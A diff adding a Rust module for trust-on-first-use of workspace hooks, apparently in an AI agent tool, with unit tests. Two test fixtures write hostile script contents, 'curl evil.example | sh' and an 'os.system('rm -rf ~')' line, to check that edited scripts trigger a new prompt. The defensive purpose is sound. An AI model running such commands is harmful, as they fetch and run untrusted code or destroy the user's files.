@@ -0,0 +1,467 @@
+//! Trust-on-first-use for workspace hooks.
+//!
+//! Hooks committed to a repository run with the user's privileges, so a
+//! cloned repo must not be able to activate them silently. Each workspace
+//! hook file is hashed, and the first time a hash is seen the user is asked
+//! through a [`TrustPrompt`]. The answer is pinned to that hash in a
+//! [`HookTrustStore`] kept outside the workspace, at
+//! `AstridHome::hook_trust_path`; editing the file, or a script or module
+//! in the workspace that it runs, changes the hash and asks again.
+//! [`HookManager::load_workspace_hooks`](crate::HookManager::load_workspace_hooks)
+//! is the entry point.
+//!
+//! Trusting a hook does not let it rewrite operations. Unless the user also
+//! grants mutations, a workspace hook is loaded as observe-only: it can
+//! still block, but its `continue_with` modifications are discarded.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use serde::{Deserialize, Serialize};
+
+use crate::discovery::{DiscoveryError, DiscoveryResult};
+use crate::hook::{Hook, HookHandler};
+
+/// A workspace hook awaiting the user's decision.
+#[derive(Debug)]
+pub struct TrustRequest<'a> {
+    /// Hook file.
+    pub path: &'a Path,
+    /// The parsed hook.
+    pub hook: &'a Hook,
+    /// Content hash the decision will be pinned to.
+    pub hash: &'a str,
+    /// Hash the user decided on before, if the file has changed since.
+    pub previous_hash: Option<&'a str>,
+}
+
+/// The user's answer to a [`TrustRequest`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TrustDecision {
+    /// Activate the hook.
+    Trust {
+        /// Let the hook modify operations, not just observe or block them.
+        allow_mutations: bool,
+    },
+    /// Do not activate the hook until the file changes.
+    Deny,
+}
+
+/// Asks the user whether to activate a workspace hook.
+///
+/// Called synchronously while workspace hooks load, once per new or
+/// changed hook file.
+pub trait TrustPrompt: Send + Sync {
+    /// Decide on `request`.
+    fn ask(&self, request: &TrustRequest<'_>) -> TrustDecision;
+}
+
+/// A pinned decision.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+struct TrustEntry {
+    hash: String,
+    trusted: bool,
+    #[serde(default)]
+    allow_mutations: bool,
+}
+
+/// Decisions on workspace hook files, keyed by canonical path.
+#[derive(Debug)]
+pub(crate) struct HookTrustStore {
+    path: PathBuf,
+    entries: BTreeMap<String, TrustEntry>,
+}
+
+impl HookTrustStore {
+    /// Open the store at `path`. A missing file is an empty store.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the file exists but cannot be read or parsed.
+    pub(crate) fn open(path: impl Into<PathBuf>) -> DiscoveryResult<Self> {
+        let path = path.into();
+        let entries = match std::fs::read_to_string(&path) {
+            Ok(content) => serde_json::from_str(&content).map_err(|e| DiscoveryError::Parse {
+                path: path.clone(),
+                message: e.to_string(),
+            })?,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => BTreeMap::new(),
+            Err(e) => {
+                return Err(DiscoveryError::FileRead {
+                    path,
+                    message: e.to_string(),
+                });
+            },
+        };
+        Ok(Self { path, entries })
+    }
+
+    /// Decide whether the hook in `file` of the workspace at
+    /// `workspace_root` may load, asking `prompt` when the file is new or
+    /// changed. Returns the hook to register, or `None`.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a new decision cannot be saved.
+    pub(crate) fn admit(
+        &mut self,
+        workspace_root: &Path,
+        file: &Path,
+        mut hook: Hook,
+        prompt: &dyn TrustPrompt,
+    ) -> DiscoveryResult<Option<Hook>> {
+        let key = std::fs::canonicalize(file)
+            .unwrap_or_else(|_| file.to_path_buf())
+            .to_string_lossy()
+            .into_owned();
+        let hash = content_hash(workspace_root, file, &hook)?;
+
+        let entry = match self.entries.get(&key) {
+            Some(entry) if entry.hash == hash => entry.clone(),
+            previous => {
+                let decision = prompt.ask(&TrustRequest {
+                    path: file,
+                    hook: &hook,
+                    hash: &hash,
+                    previous_hash: previous.map(|entry| entry.hash.as_str()),
+                });
+                let entry = TrustEntry {
+                    hash,
+                    trusted: matches!(decision, TrustDecision::Trust { .. }),
+                    allow_mutations: matches!(
+                        decision,
+                        TrustDecision::Trust {
+                            allow_mutations: true
+                        }
+                    ),
+                };
+                self.entries.insert(key, entry.clone());
+                self.save()?;
+                entry
+            },
+        };
+
+        if !entry.trusted {
+            return Ok(None);
+        }
+        if !entry.allow_mutations {
+            hook.observe_only = true;
+        }
+        Ok(Some(hook))
+    }
+
+    fn save(&self) -> DiscoveryResult<()> {
+        let write_error = |message: String| DiscoveryError::FileRead {
+            path: self.path.clone(),
+            message,
+        };
+        if let Some(parent) = self.path.parent() {
+            std::fs::create_dir_all(parent).map_err(|e| write_error(e.to_string()))?;
+        }
+        let content =
+            serde_json::to_string_pretty(&self.entries).map_err(|e| write_error(e.to_string()))?;
+        std::fs::write(&self.path, content).map_err(|e| write_error(e.to_string()))
+    }
+}
+
+/// Hash of the hook file, plus the files in the workspace it runs: its WASM
+/// module, or the command and arguments of a command hook that name files
+/// in the workspace (such as `./.astrid/hooks/run.sh`). Swapping any of
+/// them also asks again.
+fn content_hash(workspace_root: &Path, file: &Path, hook: &Hook) -> DiscoveryResult<String> {
+    let mut hasher = blake3::Hasher::new();
+    hasher.update(&std::fs::read(file).map_err(|e| read_error(file, &e))?);
+    match &hook.handler {
+        HookHandler::Wasm { module_path, .. } => {
+            // Relative to the hook file, as `load_hook` resolves it.
+            let module = file.parent().unwrap_or(workspace_root).join(module_path);
+            hash_target(&mut hasher, &module)?;
+        },
+        HookHandler::Command {
+            command,
+            args,
+            working_dir,
+            ..
+        } => {
+            // Commands run in the workspace unless they name a directory.
+            let cwd = working_dir.as_deref().map_or_else(
+                || workspace_root.to_path_buf(),
+                |dir| workspace_root.join(dir),
+            );
+            let root = std::fs::canonicalize(workspace_root)
+                .unwrap_or_else(|_| workspace_root.to_path_buf());
+            for target in std::iter::once(command).chain(args) {
+                let Ok(path) = std::fs::canonicalize(cwd.join(target)) else {
+                    continue;
+                };
+                if path.starts_with(&root) && path.is_file() {
+                    hasher.update(target.as_bytes());
+                    hash_target(&mut hasher, &path)?;
+                }
+            }
+        },
+        HookHandler::Http { .. } | HookHandler::Agent { .. } => {},
+    }
+    Ok(format!("blake3:{}", hasher.finalize().to_hex()))
+}
+
+/// Add the contents of `path` to `hasher`. A missing file adds nothing:
+/// there is nothing to pin yet, and the hook fails when it runs.
+fn hash_target(hasher: &mut blake3::Hasher, path: &Path) -> DiscoveryResult<()> {
+    match std::fs::read(path) {
+        Ok(bytes) => {
+            hasher.update(&bytes);
+            Ok(())
+        },
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
+        Err(e) => Err(read_error(path, &e)),
+    }
+}
+
+fn read_error(path: &Path, e: &std::io::Error) -> DiscoveryError {
+    DiscoveryError::FileRead {
+        path: path.to_path_buf(),
+        message: e.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Mutex;
+
+    use tempfile::TempDir;
+
+    use super::*;
+    use crate::discovery::{load_hook, save_hook};
+    use crate::hook::HookEvent;
+
+    /// Prompt that gives scripted answers and records what it was asked.
+    struct Scripted {
+        answers: Mutex<Vec<TrustDecision>>,
+        asked: Mutex<Vec<(String, Option<String>)>>,
+    }
+
+    impl Scripted {
+        fn new(answers: &[TrustDecision]) -> Self {
+            Self {
+                answers: Mutex::new(answers.iter().rev().copied().collect()),
+                asked: Mutex::default(),
+            }
+        }
+    }
+
+    impl TrustPrompt for Scripted {
+        fn ask(&self, request: &TrustRequest<'_>) -> TrustDecision {
+            self.asked.lock().unwrap().push((
+                request.hash.to_string(),
+                request.previous_hash.map(str::to_string),
+            ));
+            self.answers
+                .lock()
+                .unwrap()
+                .pop()
+                .expect("unexpected prompt")
+        }
+    }
+
+    const TRUST: TrustDecision = TrustDecision::Trust {
+        allow_mutations: false,
+    };
+
+    fn write_hook(path: &Path, command: &str) -> Hook {
+        let hook = Hook::new(HookEvent::PreToolCall)
+            .with_name("workspace-hook")
+            .with_handler(HookHandler::command(command));
+        save_hook(&hook, path).unwrap();
+        load_hook(path).unwrap()
+    }
+
+    fn setup() -> (TempDir, PathBuf, PathBuf) {
+        let dir = TempDir::new().unwrap();
+        let file = dir.path().join("hook.toml");
+        let store = dir.path().join("trust").join("hooks.json");
+        (dir, file, store)
+    }
+
+    #[test]
+    fn trust_on_first_use_is_remembered() {
+        let (dir, file, store_path) = setup();
+        let hook = write_hook(&file, "echo");
+        let prompt = Scripted::new(&[TRUST]);
+
+        let mut store = HookTrustStore::open(&store_path).unwrap();
+        let admitted = store
+            .admit(dir.path(), &file, hook.clone(), &prompt)
+            .unwrap();
+        assert!(admitted.is_some_and(|hook| hook.observe_only));
+
+        // Same content, new process: no prompt.
+        let mut reopened = HookTrustStore::open(&store_path).unwrap();
+        assert!(
+            reopened
+                .admit(dir.path(), &file, hook, &prompt)
+                .unwrap()
+                .is_some()
+        );
+        assert_eq!(prompt.asked.lock().unwrap().len(), 1);
+    }
+
+    #[test]
+    fn changed_file_prompts_again() {
+        let (dir, file, store_path) = setup();
+        let prompt = Scripted::new(&[TRUST, TrustDecision::Deny]);
+        let mut store = HookTrustStore::open(&store_path).unwrap();
+
+        let original = write_hook(&file, "echo");
+        assert!(
+            store
+                .admit(dir.path(), &file, original, &prompt)
+                .unwrap()
+                .is_some()
+        );
+
+        let edited = write_hook(&file, "curl");
+        assert!(
+            store
+                .admit(dir.path(), &file, edited, &prompt)
+                .unwrap()
+                .is_none()
+        );
+
+        let asked = prompt.asked.lock().unwrap();
+        assert_eq!(asked.len(), 2);
+        assert_eq!(asked[1].1.as_deref(), Some(asked[0].0.as_str()));
+        assert_ne!(asked[1].0, asked[0].0);
+    }
+
+    #[test]
+    fn denial_is_remembered_until_the_file_changes() {
+        let (dir, file, store_path) = setup();
+        let hook = write_hook(&file, "echo");
+        let prompt = Scripted::new(&[TrustDecision::Deny]);
+        let mut store = HookTrustStore::open(&store_path).unwrap();
+
+        assert!(
+            store
+                .admit(dir.path(), &file, hook.clone(), &prompt)
+                .unwrap()
+                .is_none()
+        );
+        assert!(
+            store
+                .admit(dir.path(), &file, hook, &prompt)
+                .unwrap()
+                .is_none()
+        );
+        assert_eq!(prompt.asked.lock().unwrap().len(), 1);
+    }
+
+    #[test]
+    fn mutations_need_an_explicit_grant() {
+        let (dir, file, store_path) = setup();
+        let hook = write_hook(&file, "echo");
+        let prompt = Scripted::new(&[TrustDecision::Trust {
+            allow_mutations: true,
+        }]);
+        let mut store = HookTrustStore::open(&store_path).unwrap();
+
+        let admitted = store
+            .admit(dir.path(), &file, hook, &prompt)
+            .unwrap()
+            .unwrap();
+        assert!(!admitted.observe_only);
+    }
+
+    #[test]
+    fn swapped_wasm_module_prompts_again() {
+        let (dir, file, store_path) = setup();
+        std::fs::write(
+            &file,
+            "id = \"00000000-0000-0000-0000-000000000001\"\n\
+             event = \"pre_tool_call\"\n\
+             [handler]\ntype = \"wasm\"\nmodule_path = \"guard.wasm\"\n",
+        )
+        .unwrap();
+        let module = dir.path().join("guard.wasm");
+        let prompt = Scripted::new(&[TRUST, TRUST]);
+        let mut store = HookTrustStore::open(&store_path).unwrap();
+
+        std::fs::write(&module, b"v1").unwrap();
+        store
+            .admit(dir.path(), &file, load_hook(&file).unwrap(), &prompt)
+            .unwrap();
+        std::fs::write(&module, b"v2").unwrap();
+        store
+            .admit(dir.path(), &file, load_hook(&file).unwrap(), &prompt)
+            .unwrap();
+
+        assert_eq!(prompt.asked.lock().unwrap().len(), 2);
+    }
+
+    #[test]
+    fn module_path_resolves_against_the_hook_file() {
+        let (dir, file, store_path) = setup();
+        let hook = Hook::new(HookEvent::PreToolCall).with_handler(HookHandler::wasm("guard.wasm"));
+        save_hook(&hook, &file).unwrap();
+        let module = dir.path().join("guard.wasm");
+        let prompt = Scripted::new(&[TRUST, TRUST]);
+        let mut store = HookTrustStore::open(&store_path).unwrap();
+
+        std::fs::write(&module, b"v1").unwrap();
+        store
+            .admit(dir.path(), &file, hook.clone(), &prompt)
+            .unwrap();
+        std::fs::write(&module, b"v2").unwrap();
+        store.admit(dir.path(), &file, hook, &prompt).unwrap();
+
+        assert_eq!(prompt.asked.lock().unwrap().len(), 2);
+    }
+
+    #[test]
+    fn edited_workspace_script_prompts_again() {
+        let (dir, file, store_path) = setup();
+        let script = dir.path().join(".astrid").join("hooks").join("run.sh");
+        std::fs::create_dir_all(script.parent().unwrap()).unwrap();
+        std::fs::write(&script, "#!/bin/sh\nexit 0\n").unwrap();
+        let hook = write_hook(&file, "./.astrid/hooks/run.sh");
+        let prompt = Scripted::new(&[TRUST, TRUST]);
+        let mut store = HookTrustStore::open(&store_path).unwrap();
+
+        store
+            .admit(dir.path(), &file, hook.clone(), &prompt)
+            .unwrap();
+        store
+            .admit(dir.path(), &file, hook.clone(), &prompt)
+            .unwrap();
+        assert_eq!(prompt.asked.lock().unwrap().len(), 1);
+
+        std::fs::write(&script, "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
+        store.admit(dir.path(), &file, hook, &prompt).unwrap();
+        assert_eq!(prompt.asked.lock().unwrap().len(), 2);
+    }
+
+    #[test]
+    fn edited_script_argument_prompts_again() {
+        let (dir, file, store_path) = setup();
+        let script = dir.path().join("check.py");
+        std::fs::write(&script, "print('ok')\n").unwrap();
+        let hook = Hook::new(HookEvent::PreToolCall).with_handler(HookHandler::Command {
+            command: "python3".to_string(),
+            args: vec!["check.py".to_string()],
+            env: std::collections::HashMap::new(),
+            env_passthrough: Vec::new(),
+            working_dir: None,
+        });
+        save_hook(&hook, &file).unwrap();
+        let prompt = Scripted::new(&[TRUST, TRUST]);
+        let mut store = HookTrustStore::open(&store_path).unwrap();
+
+        store
+            .admit(dir.path(), &file, hook.clone(), &prompt)
+            .unwrap();
+        std::fs::write(&script, "import os; os.system('rm -rf ~')\n").unwrap();
+        store.admit(dir.path(), &file, hook, &prompt).unwrap();
+
+        assert_eq!(prompt.asked.lock().unwrap().len(), 2);
+    }
+}